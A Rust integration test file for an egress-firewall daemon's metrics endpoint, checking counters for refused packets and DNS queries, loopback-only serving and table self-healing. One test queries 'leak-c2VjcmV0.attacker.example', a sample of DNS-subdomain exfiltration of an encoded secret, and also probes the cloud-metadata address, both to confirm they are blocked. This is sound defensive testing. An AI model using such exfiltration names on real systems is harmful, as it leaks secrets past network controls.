//! `run --metrics` (issue 15): the daemon serves its figures in the Prometheus text format on
//! loopback or a unix socket, scraped here with curl from inside the fenced sandbox (so the
//! table's own loopback rule is all the server needs), and the counters move with real
//! refused packets and refused DNS queries.

mod common;

use std::collections::BTreeMap;
use std::net::TcpStream;
use std::time::Duration;

use common::*;

/// The port the allow entry opens.
const PORT: u16 = 8080;
/// Where the metrics are served, in the sandbox.
const METRICS: &str = "127.0.0.1:9464";

/// Guard mode, one allowed name, the metadata preset denied, every refusal logged.
fn policy() -> String {
    format!(
        "version: 1\nallow:\n  - domain: allowed.example\n    ports: [{PORT}]\n\
         deny:\n  - preset: cloud-metadata\n\
         dns:\n  mode: guard\n  listen: [\"{GUARD_ADDR}\"]\n  upstream: [{DNS_V4}]\n\
         log:\n  group: 100\n  rate: 1000/second\n  burst: 1000\n"
    )
}

/// A running daemon; drop it before its world (declare it after).
struct Daemon {
    daemon: Background,
    _notify: NotifySocket,
}

fn start(w: &World, extra: &[&str]) -> Daemon {
    let path = w.write_file("policy.yaml", &policy());
    w.use_guard_resolver();
    let notify = NotifySocket::new(w, "notify.sock");
    let mut args = vec!["run", path_arg(&path), "--log-drops"];
    args.extend(extra);
    let mut daemon = w.spawn_egress_fence_with_env(&args, &[("NOTIFY_SOCKET", notify.path())]);
    if notify
        .wait_for("READY=1", Duration::from_secs(15))
        .is_none()
    {
        let _ = daemon.terminate();
        panic!("the daemon never said READY=1:\n{}", daemon.stderr());
    }
    Daemon {
        daemon,
        _notify: notify,
    }
}

/// The samples of a scrape: `name{labels}` to value.
fn samples(text: &str) -> BTreeMap<String, f64> {
    text.lines()
        .filter(|l| !l.starts_with('#') && !l.is_empty())
        .filter_map(|l| {
            let (key, value) = l.rsplit_once(' ')?;
            Some((key.to_string(), value.parse().ok()?))
        })
        .collect()
}

/// Scrapes over TCP with curl, from inside the sandbox.
fn scrape(w: &World, d: &Daemon) -> (String, BTreeMap<String, f64>) {
    let url = format!("http://{METRICS}/metrics");
    let out = w.sandbox_cmd(&["curl", "-sS", "--fail", "--max-time", "5", &url]);
    assert!(out.success(), "scrape: {out}\n{}", d.daemon.stderr());
    let map = samples(&out.stdout);
    (out.stdout, map)
}

fn value(samples: &BTreeMap<String, f64>, key: &str) -> f64 {
    samples.get(key).copied().unwrap_or(0.0)
}

#[test]
fn counters_move_with_refused_traffic_and_refused_queries() {
    let w = World::new();
    w.dns_set("allowed.example", &[HOST_V4], 300);
    let d = start(&w, &["--metrics", METRICS]);

    let (text, before) = scrape(&w, &d);
    assert_eq!(
        value(&before, "egress_fence_table_present"),
        1.0,
        "the scrape read the table:\n{text}"
    );
    assert!(
        text.contains("# TYPE egress_fence_guard_answer_seconds histogram"),
        "{text}"
    );
    let refused_v4 = "egress_fence_refused_packets_total{family=\"ipv4\"}";
    let refused_bytes_v4 = "egress_fence_refused_bytes_total{family=\"ipv4\"}";
    let guard_refused = "egress_fence_guard_queries_total{result=\"refused\"}";
    let guard_answered = "egress_fence_guard_queries_total{result=\"answered\"}";
    let not_in_policy =
        "egress_fence_refused_logged_packets_total{family=\"ipv4\",reason=\"not_in_policy\"}";
    let deny = "egress_fence_refused_logged_packets_total{family=\"ipv4\",reason=\"deny\"}";
    let metadata =
        "egress_fence_refused_logged_denied_packets_total{entry=\"preset cloud-metadata\"}";
    let latency_count = "egress_fence_guard_answer_seconds_count";

    // Refused: a host outside the policy, the metadata service (a deny preset), and a
    // question for a name the policy does not allow; answered: the allowed name.
    let invented = "leak-c2VjcmV0.attacker.example";
    for _ in 0..3 {
        assert!(!w.tcp_connects(OTHER_V4, PORT), "{OTHER_V4} is not allowed");
    }
    assert!(
        !w.tcp_connects(METADATA_V4, 80),
        "the metadata service is denied"
    );
    let reply = w
        .in_sandbox_ns(|| {
            dns_ask(
                GUARD_ADDR,
                invented,
                RTYPE_A,
                Transport::Udp,
                Duration::from_secs(3),
            )
        })
        .expect("the guard answers a refused name");
    assert_ne!(reply.rcode, RCODE_NOERROR, "{reply:?}");
    let reply = w
        .in_sandbox_ns(|| {
            dns_ask(
                GUARD_ADDR,
                "allowed.example",
                RTYPE_A,
                Transport::Udp,
                Duration::from_secs(3),
            )
        })
        .expect("the guard answers an allowed name");
    assert_eq!(reply.addrs(), vec![HOST_V4]);

    // The table's counters are read at the scrape (a read answers the scrapes of the next
    // second too); the logged reasons arrive through NFLOG; the rest is published by the
    // daemon once a second.
    let mut last = (String::new(), BTreeMap::new());
    let moved = within(Duration::from_secs(5), || {
        last = scrape(&w, &d);
        let after = &last.1;
        value(after, refused_v4) >= value(&before, refused_v4) + 4.0
            && value(after, not_in_policy) >= value(&before, not_in_policy) + 3.0
            && value(after, deny) >= value(&before, deny) + 1.0
            && value(after, "egress_fence_names") >= 1.0
    });
    let (text, after) = last;
    assert!(
        moved,
        "the counters did not move (refused packets before: {}):\n{text}",
        value(&before, refused_v4)
    );
    assert!(
        value(&after, refused_bytes_v4) >= value(&before, refused_bytes_v4) + 4.0 * 40.0,
        "{text}"
    );
    assert!(value(&after, metadata) >= 1.0, "{text}");
    // The deny rules count for themselves: exactly the one packet to the metadata service.
    let denied_v4 = "egress_fence_refused_denied_packets_total{family=\"ipv4\"}";
    assert_eq!(
        value(&after, denied_v4),
        value(&before, denied_v4) + 1.0,
        "{text}"
    );
    assert_eq!(
        value(&after, guard_refused),
        value(&before, guard_refused) + 1.0,
        "{text}"
    );
    assert_eq!(
        value(&after, guard_answered),
        value(&before, guard_answered) + 1.0,
        "{text}"
    );
    assert!(value(&after, latency_count) >= 1.0, "{text}");
    assert!(
        !text.contains("attacker") && !text.contains("c2VjcmV0"),
        "a refused name became a label:\n{text}"
    );
    assert!(value(&after, "egress_fence_generation") >= 1.0, "{text}");
    assert!(
        value(&after, "egress_fence_last_apply_timestamp_seconds") > 1.7e9,
        "{text}"
    );
    assert!(
        value(&after, "egress_fence_set_elements{set=\"resolved4\"}") >= 1.0,
        "the answered address is in the table:\n{text}"
    );

    // Someone else deletes the table: the daemon heals it, and says who did.
    let heals = "egress_fence_heals_total";
    let out = w.sandbox_cmd(&["nft", "delete", "table", "inet", "egress_fence"]);
    assert!(out.success(), "{out}");
    let healed = within(Duration::from_secs(5), || {
        let (text, now) = scrape(&w, &d);
        value(&now, heals) >= value(&before, heals) + 1.0
            && text.contains("egress_fence_last_heal_info{by=\"nft")
    });
    assert!(healed, "no heal counted:\n{}", scrape(&w, &d).0);

    // Anything but GET /metrics is refused; so is a request head past the limit.
    let base = format!("http://{METRICS}");
    let big = format!("X-Big: {}", "a".repeat(9000));
    let metrics = format!("{base}/metrics");
    for (expected, mut args) in [
        ("404", vec![format!("{base}/")]),
        ("405", vec!["-X".into(), "POST".into(), metrics.clone()]),
        ("431", vec!["-H".into(), big, metrics.clone()]),
    ] {
        let mut curl: Vec<String> = ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}"]
            .map(String::from)
            .to_vec();
        curl.append(&mut args);
        let curl: Vec<&str> = curl.iter().map(String::as_str).collect();
        let out = w.sandbox_cmd(&curl);
        assert_eq!(out.stdout, expected, "{curl:?}: {out}");
    }
}

#[test]
fn the_server_is_on_loopback_only_and_serves_few_at_once() {
    let w = World::new();
    let d = start(&w, &["--metrics", METRICS]);
    let outside = format!("http://{SANDBOX_V4}:9464/metrics");
    // From the network, and at the sandbox's own address: nothing listens there.
    let out = w.net_cmd(&["curl", "-s", "--max-time", "2", &outside]);
    assert!(!out.success(), "reached from the network: {out}");
    let out = w.sandbox_cmd(&["curl", "-s", "--max-time", "2", &outside]);
    assert!(!out.success(), "served off loopback: {out}");
    // Connections that send nothing hold every slot: the next one is closed unanswered.
    let idle: Vec<TcpStream> = w.in_sandbox_ns(|| {
        (0..4)
            .map(|_| TcpStream::connect(METRICS).expect("connect"))
            .collect()
    });
    std::thread::sleep(Duration::from_millis(300));
    let url = format!("http://{METRICS}/metrics");
    let out = w.sandbox_cmd(&["curl", "-s", "--max-time", "3", &url]);
    assert!(!out.success(), "a fifth scraper was served: {out}");
    drop(idle);
    let served = within(Duration::from_secs(3), || {
        w.sandbox_cmd(&["curl", "-sS", "--fail", "--max-time", "3", &url])
            .success()
    });
    assert!(
        served,
        "no scrape once the idle connections closed:\n{}",
        d.daemon.stderr()
    );
}

#[test]
fn a_unix_socket_serves_the_same_and_is_removed_at_exit() {
    let w = World::new();
    let socket = w.dir().join("metrics.sock");
    let mut d = start(&w, &["--metrics", path_arg(&socket)]);
    let out = w.sandbox_cmd(&[
        "curl",
        "-sS",
        "--fail",
        "--max-time",
        "5",
        "--unix-socket",
        path_arg(&socket),
        "http://metrics/metrics",
    ]);
    assert!(out.success(), "{out}\n{}", d.daemon.stderr());
    assert!(
        out.stdout
            .contains("egress_fence_refused_packets_total{family=\"ipv4\"}"),
        "{out}"
    );
    // Nothing listens on TCP.
    let tcp = w.sandbox_cmd(&["curl", "-s", "--max-time", "2", "http://127.0.0.1:9464/"]);
    assert!(!tcp.success());
    let _ = d.daemon.terminate();
    assert!(!socket.exists(), "the socket outlived the daemon");
    // A file that is not a socket is never replaced: the daemon names it and stops.
    let file = w.write_file("not-a-socket", "keep me");
    let policy = w.dir().join("policy.yaml");
    let out = w.egress_fence(&["run", path_arg(&policy), "--metrics", path_arg(&file)]);
    assert_eq!(out.code(), 1, "{out}");
    assert!(out.stderr.contains("is not a socket"), "{out}");
    assert_eq!(std::fs::read_to_string(&file).unwrap(), "keep me");
}

#[test]
fn a_taken_metrics_port_stops_the_daemon_and_leaves_the_namespace_closed() {
    // Anyone may bind a loopback port while the daemon is down (a squatter serving figures of
    // its own): the daemon never shares it and never starts without its server.
    let w = World::new();
    let path = w.write_file("policy.yaml", &policy());
    let _squatter =
        w.in_sandbox_ns(|| std::net::TcpListener::bind(METRICS).expect("bind the port first"));
    let out = w.egress_fence(&["run", path_arg(&path), "--metrics", METRICS]);
    assert_eq!(out.code(), 1, "{out}");
    assert!(out.stderr.contains(METRICS), "the address is named: {out}");
    assert!(out.stderr.contains("the fail-closed table is"), "{out}");
}

#[test]
fn an_address_off_loopback_is_refused_with_exit_2() {
    let w = World::new();
    let path = w.write_file("policy.yaml", &policy());
    for open in [
        "0.0.0.0:9464",
        "198.51.100.2:9464",
        "[::]:9464",
        "metrics.sock",
    ] {
        let out = w.egress_fence(&["run", path_arg(&path), "--metrics", open]);
        assert_eq!(out.code(), 2, "{open}: {out}");
        assert!(
            out.stderr.contains("loopback") || out.stderr.contains("unix socket"),
            "{open}: {out}"
        );
    }
    // Refused before anything was done: no table went up.
    let out = w.sandbox_cmd(&["nft", "list", "tables"]);
    assert!(!out.stdout.contains("egress_fence"), "{out}");
}
